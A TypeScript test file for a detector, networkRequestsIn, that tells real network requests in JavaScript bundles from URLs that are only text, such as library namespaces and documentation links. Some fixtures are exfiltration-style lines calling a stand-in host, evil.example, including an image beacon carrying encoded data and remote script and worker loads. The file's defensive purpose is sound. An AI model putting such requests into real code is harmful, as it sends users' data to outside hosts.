import { readFileSync } from "node:fs";
import { join } from "node:path";
import { networkRequestsIn } from "./networkRequests";

const kinds = (code: string) => networkRequestsIn(code).map((f) => f.split(":")[0]);

describe("networkRequestsIn tells a request from a URL that is only text", () => {
  it.each([
    ['fetch("/api/units")', "fetch"],
    ["window.fetch(u, { method: 'POST' })", "fetch"],
    ['globalThis["fetch"](u)', "fetch"],
    ["const get = self.fetch; get(u)", "fetch"],
    ["const x = new XMLHttpRequest(); x.open('GET', u)", "XMLHttpRequest"],
    ['navigator.sendBeacon("/log", data)', "sendBeacon"],
    ['new WebSocket("wss://example.org/s")', "WebSocket"],
    ["new EventSource(u)", "EventSource"],
    ['self.importScripts("https://cdn.example.org/x.js")', "importScripts"],
    ['img.src = "https://evil.example/p.gif?d=" + encodeURIComponent(data)', "src ="],
    ["a.href = `https://evil.example/${id}`", "href ="],
    ['location = "https://evil.example/"', "location ="],
    ['jsx("img", { src: "https://evil.example/a.png" })', "src"],
    ['window.open("https://evil.example/")', "open"],
    ["location.assign(`https://evil.example/${x}`)", "assign"],
    ['new Worker("https://evil.example/w.js")', "Worker"],
    ['el.setAttribute("href", "//evil.example/")', "setAttribute"],
    ['import("https://evil.example/m.js")', "import()"],
    ["import(name)", "import()"],
  ])("finds %s", (code, kind) => {
    expect(kinds(code)).toContain(kind);
  });

  it.each([
    // SheetJS and our writer put namespaces into the XML they write.
    'w("Types", null, { xmlns: "http://schemas.openxmlformats.org/package/2006/content-types" })',
    `e.push('<rdf:type rdf:resource="http://docs.oasis-open.org/ns/office/1.2/meta/' + (r || "odf") + '"/>')`,
    'Hn("xml", null, { "xmlns:mv": "http://macVmlSchemaUri" })',
    // SheetJS's default workbook names its home page as text; React prints a link in errors.
    'var d = { rsst: [{ v: "~54ee77S~", l: "https://sheetjs.com/" }] }',
    'throw Error("https://react.dev/errors/" + code)',
    // React's DOM code takes namespaces, never loads them.
    'document.createElementNS("http://www.w3.org/2000/svg", "svg")',
    'el.setAttributeNS("http://www.w3.org/1999/xlink", "xlink:href", v)',
    // webpack's runtime only asks whether importScripts exists, to find its own path.
    'if (r.g.importScripts) e = r.g.location + ""',
    // zod parses an IPv6 address with the URL parser; String#replace takes URLs as text.
    'new URL("http://[" + ip + "]")',
    's.replace("http://schemas.openxmlformats.org/", "")',
    // Office.js must come from Microsoft's CDN.
    'script.src = "https://appsforoffice.microsoft.com/lib/1/hosted/office.js"',
    '// fetch("https://evil.example/")\nconst message = "fetch failed"',
  ])("lets %s be", (code) => {
    expect(networkRequestsIn(code)).toEqual([]);
  });

  it("reads minified code: SheetJS's own minified build, namespaces and its URL in text, makes no request", () => {
    const code = readFileSync(
      join(__dirname, "../../node_modules/@e965/xlsx/dist/xlsx.full.min.js"),
      "utf8",
    );
    expect(code).toContain("http://schemas.openxmlformats.org/");
    expect(code).toContain("https://sheetjs.com/");
    expect(networkRequestsIn(code)).toEqual([]);
    // The same code with one request added is caught.
    expect(kinds(`${code}\n;fetch("https://evil.example/")`)).toEqual(["fetch"]);
  });
});
